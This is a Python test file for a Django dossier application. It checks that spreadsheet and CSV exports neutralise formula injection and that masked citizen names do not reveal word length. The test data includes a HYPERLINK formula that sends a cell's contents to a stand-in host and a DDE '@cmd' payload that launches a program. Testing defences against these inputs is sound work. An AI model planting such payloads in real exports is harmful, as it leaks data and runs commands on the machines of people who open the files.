"""Exports write user text as text (issue 10 items 4 and 5): no live formula in any XLSX/CSV,
and masked names that do not give away the length of each word."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cchc.core.spreadsheets import append_row, csv_bytes, workbook_bytes
from cchc.dossiers import procedures, services
from cchc.dossiers.selectors import mask_name
from tests.fixtures import client_for

FORMULA = '=HYPERLINK("https://example.invalid/?"&B2,"Xem")'
RISKY = [FORMULA, "+84 909 000 111", "-1+2", "@SUM(A1:A9)", "\tTab", "\rCR"]


def _formulas(xlsx: bytes) -> list[str]:
    """Every <f> (formula) element of every sheet: what Excel would run when opening."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_shared_writer_keeps_every_risky_string_as_quoted_text() -> None:
    book = Workbook()
    append_row(book.active, RISKY)
    data = workbook_bytes(book)

    cells = next(iter(load_workbook(io.BytesIO(data)).active.iter_rows()))

    assert _formulas(data) == []
    assert [c.value for c in cells] == RISKY  # the text itself is unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_shared_csv_writer_prefixes_risky_cells_only() -> None:
    text = csv_bytes([[*RISKY, "Nguyễn Văn An", 12]]).decode("utf-8-sig")

    assert text.startswith("\"'=HYPERLINK(")
    assert ",'+84 909 000 111,'-1+2,'@SUM(A1:A9),'\tTab,\"'\rCR\",Nguyễn Văn An,12" in text


@pytest.mark.django_db
def test_tracking_book_xlsx_has_no_live_formula_from_a_citizen_name(clerk, principal, school):
    transfer = next(
        p
        for p in procedures.procedure_seed_defaults(actor=clerk.user, unit=school)
        if p.name.startswith("Chuyển trường")
    )
    services.dossier_receive(
        actor=clerk.user,
        unit=school,
        procedure=transfer,
        applicant={"applicant_name": FORMULA, "applicant_phone": "0909000111"},
        provided_documents=[d["name"] for d in transfer.documents],
        subject="@cmd|' /C calc'!A0",
    )

    response = client_for(principal).get(reverse("dossiers:book") + "?xuat=xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    # Found by content, not by column letter: the book follows the current form's columns.
    row = list(sheet[8])  # the first row under the printed book's heading
    name_cell = next(c for c in row if c.value == FORMULA)
    subject_cell = next(c for c in row if isinstance(c.value, str) and c.value.startswith("@cmd"))

    assert _formulas(response.content) == []
    assert name_cell.value == FORMULA
    assert name_cell.data_type == "s"
    assert name_cell.quotePrefix
    assert subject_cell.value.startswith("@")
    assert subject_cell.quotePrefix


@pytest.mark.django_db
def test_catalogue_export_keeps_formula_like_text_as_text(principal, school) -> None:
    record = procedures.procedure_record(
        procedures.procedure_seed_defaults(actor=principal.user, unit=school)[0]
    )
    record["name"] = "=1+1 " + record["name"]
    procedures.procedure_upsert(actor=principal.user, unit=school, record=record)

    data = procedures.procedures_export_xlsx(unit=school)
    rows = load_workbook(io.BytesIO(data)).worksheets[0].iter_rows()
    names = [cell.value for row in rows for cell in row]

    assert _formulas(data) == []
    assert record["name"] in names


@pytest.mark.parametrize(
    ("name", "masked"),
    [
        ("Đỗ Quỳnh Yến", "Đ*** Q*** Yến"),
        ("Nguyễn Thị Minh Khai", "N*** T*** M*** Khai"),
        ("Lê Văn An", "L*** V*** An"),
        ("An", "A***"),
        ("", ""),
    ],
)
def test_masked_names_use_a_fixed_pattern(name, masked) -> None:
    assert mask_name(name) == masked
